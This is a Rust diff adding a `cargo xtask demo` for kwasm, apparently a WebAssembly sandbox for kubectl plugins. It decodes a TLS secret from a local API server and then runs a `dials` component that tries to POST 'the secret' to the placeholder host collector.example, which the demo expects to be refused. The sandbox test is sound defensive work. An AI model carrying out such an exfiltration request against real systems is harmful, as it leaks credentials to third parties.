@@ -1,0 +1,174 @@
+//! `cargo xtask demo`: a plugin's life in a temporary home, from its installation to what it may not do.
+
+use std::{
+    ffi::OsStr,
+    io::{BufRead, BufReader},
+    path::{Path, PathBuf},
+    process::{Child, Command, ExitCode, Stdio},
+};
+
+use anyhow::{Context, Result, bail};
+use serde_json::Value;
+
+use crate::{
+    cargo,
+    components::{self, Scope},
+    home::Home,
+    places,
+    places::Places,
+    process,
+    report::{Report, title},
+};
+
+pub(crate) fn run(places: &Places) -> Result<ExitCode> {
+    let mut report = Report::default();
+    let programs = report.step("building kwasm and the embedded API server", || {
+        cargo::build_dev(places, &["kwasm", "kwasm-apiserver"])
+    })?;
+    report.step("building the plugins", || components::build(places, Scope::Workspace))?;
+
+    title(
+        "starting an API server on loopback, with mutual TLS, and the secret `web-tls` in namespace `shop`",
+    );
+    let server = ApiServer::start(cargo::program(&programs, "kwasm-apiserver")?)?;
+    eprintln!("{}\n{}", server.url, server.kubeconfig.display());
+    let stage = Stage {
+        home: Home::new(places, "demo", cargo::program(&programs, "kwasm")?)?,
+        components: places.components(),
+        kubeconfig: &server.kubeconfig,
+    };
+    play(&stage)?;
+    server.end()?;
+    title("done");
+    eprintln!(
+        "The plugin decoded a secret without ever seeing the key, the certificate or the address that\n\
+         fetched it. Server, home and link are gone again; yours were not touched."
+    );
+    Ok(ExitCode::SUCCESS)
+}
+
+fn play(stage: &Stage<'_>) -> Result<()> {
+    title("installing the plugin `decoder`: one file, the same on every system");
+    stage.show(stage.kwasm()?.arg("install").arg(stage.component("decoder")))?;
+
+    let words = ["secret", "web-tls", "-n", "shop"];
+    let mut plugin = if places::on_path("kubectl").is_some() {
+        title("decoding the secret, as any plugin of kubectl's");
+        let mut kubectl = stage.program("kubectl")?;
+        kubectl.arg("decoder");
+        kubectl
+    } else {
+        title(
+            "decoding the secret through the plugin's link; there is no kubectl on PATH, which would do the same",
+        );
+        stage.program(stage.home.link("decoder"))?
+    };
+    let decoded = stage.show(plugin.args(words))?;
+    for expected in ["Subject", "web.shop.example"] {
+        if !decoded.contains(expected) {
+            bail!("the plugin's output lacks `{expected}`");
+        }
+    }
+
+    title("what a plugin sees: no file, no environment of yours, a kubeconfig without a secret");
+    stage.show(stage.kwasm()?.arg("run").arg(stage.component("dumps")))?;
+
+    title("what it cannot do: send what it has read to another host");
+    let mut dials = stage.kwasm()?;
+    dials.arg("run").arg(stage.component("dials"));
+    stage.show_refused(dials.args([
+        "--",
+        "https://collector.example/",
+        "--method",
+        "POST",
+        "--body",
+        "the secret",
+    ]))
+}
+
+/// What the scenes of the demo share.
+struct Stage<'a> {
+    home: Home,
+    components: PathBuf,
+    kubeconfig: &'a Path,
+}
+
+impl Stage<'_> {
+    fn component(&self, name: &str) -> PathBuf {
+        self.components.join(format!("{name}.wasm"))
+    }
+
+    fn kwasm(&self) -> Result<Command> {
+        Ok(self.at_the_server(self.home.kwasm()?))
+    }
+
+    fn program(&self, program: impl AsRef<OsStr>) -> Result<Command> {
+        Ok(self.at_the_server(self.home.command(program)?))
+    }
+
+    fn at_the_server(&self, mut command: Command) -> Command {
+        command.env("KUBECONFIG", self.kubeconfig).stdin(Stdio::null());
+        command
+    }
+
+    /// Runs a command that has to succeed, before the eyes of the user; gives what it printed.
+    fn show(&self, command: &mut Command) -> Result<String> {
+        self.print(command);
+        let printed = process::output(command)?;
+        print!("{printed}");
+        Ok(printed)
+    }
+
+    /// Runs a command that has to be refused.
+    fn show_refused(&self, command: &mut Command) -> Result<()> {
+        self.print(command);
+        let status =
+            command.status().with_context(|| format!("cannot start `{}`", process::shown(command)))?;
+        if status.success() {
+            bail!("kwasm let the request through");
+        }
+        eprintln!("(the plugin ended with {status})");
+        Ok(())
+    }
+
+    fn print(&self, command: &Command) {
+        // Where they lie is of no interest.
+        let shown = process::shown(command).replace(&*self.components.to_string_lossy(), "components");
+        eprintln!("$ {shown}");
+    }
+}
+
+/// The embedded API server, which ends when its standard input is closed.
+struct ApiServer {
+    child: Child,
+    url: String,
+    kubeconfig: PathBuf,
+}
+
+impl ApiServer {
+    fn start(program: &Path) -> Result<Self> {
+        let mut child = Command::new(program)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .with_context(|| format!("cannot start {}", program.display()))?;
+        let stdout = child.stdout.take().context("the API server has no output")?;
+        let mut line = String::new();
+        BufReader::new(stdout).read_line(&mut line).context("the API server said nothing")?;
+        let ready: Value = serde_json::from_str(&line).context("the API server did not become ready")?;
+        let text =
+            |value: &Value| value.as_str().map(str::to_owned).context("the API server's line is incomplete");
+        Ok(Self {
+            child,
+            url: text(&ready["url"])?,
+            kubeconfig: text(&ready["kubeconfigs"]["certificate"])?.into(),
+        })
+    }
+
+    /// Ends it and waits until it has cleaned up.
+    fn end(mut self) -> Result<()> {
+        drop(self.child.stdin.take());
+        self.child.wait()?;
+        Ok(())
+    }
+}
